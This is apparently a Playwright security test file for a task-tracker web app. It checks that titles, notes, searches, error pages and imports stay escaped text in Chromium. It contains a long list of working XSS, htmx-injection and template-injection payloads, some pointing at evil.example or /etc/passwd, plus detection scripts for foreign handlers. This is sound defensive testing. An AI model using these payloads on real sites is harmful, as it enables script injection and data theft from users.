"""Text that would like to be code, in everything that is kept or said back, on every page, in a real Chromium.

Each page is looked at twice: with the page's own policy, which would report what it stops, and without it, when
nothing but the escaping is left. Nothing may run, nothing may be asked for elsewhere, and the text is text.
"""

import contextlib
import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlencode

import httpx
import pytest
from playwright.sync_api import expect

from tests.engine.chromium import PATIENCE
from tests.engine.conftest import Server
from tests.importing import settled, until, upload

HIT = "__hit(1)"
PAYLOADS = [
    f"<script>{HIT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{HIT}//",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"</title></textarea></style></noscript></template></select></svg><script>{HIT}</script>",
    f"<img src=/x onerror={HIT}>",
    f"<img src='/x' onerror='{HIT}'>",
    f'"><img src=/x onerror="{HIT}">',
    f"'><img src=/x onerror='{HIT}'>",
    f"<img/src=/x/onerror={HIT}>",
    f"<img src=/x onerror\n=\n{HIT}",
    f"<<img src=/x onerror={HIT}>>",
    f'" autofocus onfocus="{HIT}" x="',
    f"' autofocus onfocus='{HIT}' x='",
    f"` onmouseover=`{HIT}",
    f'x" hx-on:load="{HIT}" hx-get="/tasks" hx-trigger="load',
    'x" hx-get="https://evil.example/" hx-trigger="load" y="',
    f"<div hx-on--load={HIT} hx-get=//evil.example/ hx-trigger=load>",
    f'<hx-partial hx-target="body" hx-swap="innerHTML"><script>{HIT}</script></hx-partial>',
    f"<template hx type=partial hx-target=body><img src=/x onerror={HIT}></template>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src=/x onerror={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}>",
    f"<object data=javascript:{HIT}><embed src=javascript:{HIT}>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example';*{}",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    f"<form action=javascript:{HIT}><button autofocus>x",
    f"<!--><img src=/x onerror={HIT}>-->",
    f"<![CDATA[><img src=/x onerror={HIT}>]]>",
    f"javascript:{HIT}",
    f"[link](javascript:{HIT}) [other](JaVaScRiPt:{HIT}) [third](data:text/html,<script>{HIT}</script>)",
    f"[a]: java&#x0A;script:{HIT}\n[entity](&#106;avascript:{HIT}) [a] <javascript:{HIT}>",
    f"![pixel](https://evil.example/x.png) ![p](/x\"onerror=\"{HIT}) [t](/x '\"onmouseover=\"{HIT}')",
    f"```html\" onload={HIT}\n<script>{HIT}</script>\n```\n\n`<script>{HIT}</script>`\n\n    <script>{HIT}</script>",
    f"|<script>{HIT}</script>|b|\n|:-:|--:|\n|<img src=/x onerror={HIT}>|c|",
    "[vb](vbscript:x) [file](file:///etc/passwd) <https://evil.example/\" onclick=\"x> # <b onclick=x>y</b>",
    "{{ 7 * 7 }} ${7*7} #{7*7} {% include '/etc/passwd' %} <%= 7*7 %> [[${7*7}]] {0.__class__} %(x)s",
    f"&lt;script&gt;{HIT}&lt;/script&gt; &#60;img src=/x onerror={HIT}&#62; &amp;lt;",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e %3Cscript%3E{HIT}%3C/script%3E +ADw-script+AD4-{HIT}",
    f"＜script＞{HIT}＜/script＞ \u2028{HIT}\u2029 \u202e>tpircs< \ufeff<\u200bscript>{HIT}",
    f"\xbcscript\xbe{HIT} <\x0bscript>{HIT}</\x0cscript> <img\x0csrc=/x\x0conerror={HIT}>",
    "=HYPERLINK(\"javascript:x\",\"y\") @SUM(1) -1+1 \\\"); alert(1); //",
]  # fmt: skip
# What only text may become: elements of Markdown, with nothing but where they lead.
# The title of a task on its own page, and not the headings of its notes.
TITLE = ".detail > h1, .detail-head h1"
NOTES = """() => [...document.querySelectorAll(".notes *")].flatMap(each => [
    ...(/^(P|A|EM|STRONG|CODE|PRE|UL|OL|LI|BLOCKQUOTE|BR|HR|H[1-6]|S|TABLE|THEAD|TBODY|TR|TH|TD)$/.test(each.tagName)
        ? [] : [each.outerHTML]),
    ...[...each.attributes].filter(({name, value}) => !(name == "href" && /^(https?|mailto):$/.test(each.protocol)
        || /^(title|start|align)$/.test(name) || name == "class" && value.startsWith("language-"))
    ).map(({name}) => name)
])"""
# Nothing on a page is a handler or an address of code, and every script and style is a file of ours.
FOREIGN = """() => [...document.querySelectorAll("*")].filter(each =>
    [...each.attributes].some(({name, value}) => name.startsWith("on") || name == "style" || name.includes("hx-on")
        || name == "srcdoc" || /^(href|src|action|formaction|data)$/.test(name)
            && /^\\s*(javascript|data):/i.test(value))
    || /^(IFRAME|OBJECT|EMBED|BASE|STYLE|MATH|TEMPLATE|HX-PARTIAL|IMG)$/.test(each.tagName)
    || /^(SCRIPT|LINK)$/.test(each.tagName) && new URL(each.src || each.href).origin != location.origin
).map(each => each.outerHTML)"""
# What Chromium says of an answer that is an error, and of a date that is none.
EXPECTED = "responded with a status of 4|does not conform to the required format"
WATCH = """addEventListener("securitypolicyviolation", event =>
    __violation(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`))"""


@pytest.fixture(params=["without its policy", pytest.param("with its policy", marks=pytest.mark.slow)])
def watched(request: pytest.FixtureRequest, chromium: Any, server: Server) -> Iterator[Any]:
    """A page on which nothing happens that only code could do."""
    seen: list[str] = []
    bypass = request.param == "without its policy"
    with contextlib.closing(chromium.new_context(base_url=server.url, bypass_csp=bypass)) as context:
        context.set_default_timeout(PATIENCE)
        context.expose_function("__hit", lambda *_: seen.append("code ran"))
        context.expose_function("__violation", lambda what: seen.append(f"the policy was violated: {what}"))
        context.add_init_script(WATCH)
        context.on("dialog", lambda dialog: (seen.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
        context.on("request", lambda each: None if each.url.startswith(server.url + "/") else seen.append(each.url))
        context.on("weberror", lambda error: seen.append(f"exception: {error.error}"))
        context.on(
            "console",
            lambda said: (
                seen.append(said.text)
                if said.type in ("error", "warning") and not re.search(EXPECTED, said.text)
                else None
            ),
        )
        page = context.new_page()
        page.on("requestfinished", lambda each: seen.append(each.url) if each.url.endswith("/x") else None)
        yield page
        page.evaluate("() => __hit && 1")  # What was said before it has arrived with its answer.
        assert seen == []


# Out of a text, out of an attribute, out of Markdown.
SOME = [PAYLOADS[6], PAYLOADS[3], PAYLOADS[33]]


@pytest.fixture(params=[SOME, pytest.param(PAYLOADS, marks=pytest.mark.slow)], ids=["some", "all"])
def payloads(request: pytest.FixtureRequest) -> list[str]:
    """What is tried: a few in the quick run."""
    found: list[str] = request.param
    return found


def shows(page: Any, address: str, status: int = 200) -> None:
    """The page at an address is there, and is made of what we made it of."""
    answer = page.goto(address)
    assert answer.status == status, address
    assert page.evaluate(FOREIGN) == []


def flat(text: str) -> str:
    """A text as a title is kept: in one line."""
    return " ".join(text.split())


def test_tasks_are_text_wherever_they_stand(
    watched: Any, payloads: list[str], server: Server, client: httpx.Client
) -> None:
    for payload in payloads:
        assert client.post("/tasks", data={"title": payload, "notes": payload}).status_code == 303
    titles = [flat(payload) for payload in payloads]
    for number in range(1 + len(payloads) // 20):
        shows(watched, f"/tasks?sort=oldest&page={number + 1}")
        shown = watched.locator(".record .title").all_text_contents()
        assert shown == titles[20 * number : 20 * number + 20]
        names = [each.get_attribute("aria-label") for each in watched.locator(".record .edit").all()]
        assert names == [f"Edit {title}" for title in shown]
    ids = [row["id"] for row in server.sql("SELECT id FROM tasks ORDER BY id")]
    for id, title, notes in zip(ids, titles, payloads, strict=True):
        shows(watched, f"/tasks/{id}")
        assert watched.locator(TITLE).text_content() == title
        assert flat(watched.title()).lstrip("\u2068").startswith(flat(title)[:20])
        assert watched.evaluate(NOTES) == [], notes
        shows(watched, f"/tasks/{id}/edit")
        assert watched.locator("[name=title]").input_value() == title
        assert watched.locator("[name=notes]").input_value() == notes.replace("\r", "\n")


def test_a_fragment_put_in_place_is_text_too(
    watched: Any, payloads: list[str], server: Server, client: httpx.Client
) -> None:
    """By htmx: a search, an edit in its row, a change from elsewhere, a deletion and its toast."""
    for payload in payloads[::2]:
        server.sql("DELETE FROM tasks")
        server.sql("INSERT INTO tasks (id, title, notes) VALUES (1, ?, ?)", [flat(payload), payload])
        title = flat(payload)
        shows(watched, "/tasks")
        watched.locator(".edit").click()
        expect(watched.locator(".editing [name=title]")).to_have_value(title)
        watched.locator(".editing .primary").click()
        expect(watched.locator(".record .title")).to_have_text(title)
        watched.locator("#search").fill(payload)
        expect(watched.locator(".found")).to_be_visible()
        watched.locator("#search").fill("")
        watched.locator(".record .delete").click()
        expect(watched.locator(".toast-name")).to_have_text(f"“{title}”")
        assert watched.evaluate(FOREIGN) == []
        shows(watched, "/tasks?deleted=1")


def test_what_is_asked_for_is_said_back_as_text(
    watched: Any, payloads: list[str], server: Server, client: httpx.Client
) -> None:
    for number, payload in enumerate(payloads):
        said = payload.strip()
        shows(watched, "/tasks?" + urlencode({"q": said}))
        # A line break does not fit into the field of a search.
        assert watched.locator("#search").input_value() == re.sub(r"[\r\n]", "", said)
        shows(watched, "/tasks?" + urlencode({("sort", "page")[number % 2]: said}), 400)
        # A sentence names the begin of what is long.
        assert flat(said[:60]) in flat(watched.locator("main").text_content())
        shows(watched, "/" + quote(payload, safe=""), 404)
        shows(watched, "/tasks?" + urlencode({"deleted": payload}))
        shows(watched, "/sign-in?" + urlencode({"token": payload, "next": payload}))


def test_what_was_typed_wrong_comes_back_as_text(
    watched: Any, payloads: list[str], server: Server, client: httpx.Client
) -> None:
    """A form with a mistake in it, and the sentence about it."""
    server.sql("INSERT INTO tasks (id, title) VALUES (1, 'Task')")
    # Chromium lets no page that did not come from this machine speak to it.
    watched.route_web_socket("**/live", lambda socket: None)
    for payload in payloads:
        for address in ("/tasks", "/tasks/1"):
            answer = client.post(address, data={"title": payload, "due": payload, "notes": payload})
            headers = {name: value for name, value in answer.headers.items() if name != "content-length"}
            with routed(watched, status=422, headers=headers, body=answer.text):
                shows(watched, "/answer", 422)
            assert flat(payload)[:30] in flat(watched.get_by_role("alert").text_content())
            assert watched.locator("main form [name=title]").input_value() == re.sub(r"[\r\n]", "", payload)


@contextlib.contextmanager
def routed(page: Any, **answer: Any) -> Iterator[None]:
    """Show an answer of the server's as the page at /answer."""
    page.route("**/answer", lambda route: route.fulfill(**answer))
    yield
    page.unroute("**/answer")


def test_an_import_is_text_from_its_name_to_its_last_cell(
    watched: Any, payloads: list[str], server: Server, client: httpx.Client
) -> None:
    rows = [{"title": payload, "notes": payload, payload: payload} for payload in payloads]
    odd = [{"title": "", payloads[0]: "x"}, *({"title": "x", "due": payload} for payload in payloads)]
    file = "\n".join(json.dumps(row) for row in [*rows, *odd])
    for name in (*payloads[::3], '"><img src=x onerror=__hit(1)>.json', "-name.json", "--columns.json"):
        address = upload(client, f"{name.replace('/', '∕')}.json".replace("\n", " "), file.encode())
        each = until(client, address, settled)
        assert each["state"] == "ready", each["error"]
        shows(watched, address)
        assert watched.locator("h1").text_content() == each["filename"]
        watched.locator("details").evaluate_all("all => all.forEach(each => each.open = true)")
        assert watched.locator("tbody td").first.text_content() == flat(payloads[0])
    # A long name is shortened: it is chosen as the page says it.
    names = [column["name"] for column in each["understood"]["columns"]]
    answer = client.post(f"{address}/columns", data={"title": names[-len(payloads)], "notes": names[-1]})
    assert answer.status_code == 303
    each = until(client, address, settled)
    assert each["state"] == "ready", each["error"]
    shows(watched, address)
    refused = client.post(f"{address}/columns", data={"title": f"none {payloads[0]}"})
    assert refused.status_code == 422
    assert "no such column for “Title”" in refused.text
    assert client.post(f"{address}/start").status_code == 303
    until(client, address, settled)
    shows(watched, address)
    shows(watched, "/imports")
    shows(watched, "/tasks")


def test_an_export_is_never_a_page(server: Server, client: httpx.Client) -> None:
    for payload in PAYLOADS:
        client.post("/tasks", data={"title": payload, "notes": payload})
    for address in ("/export.csv", "/export.json", "/export.db"):
        answer = client.get(address)
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "html" not in answer.headers["content-type"]
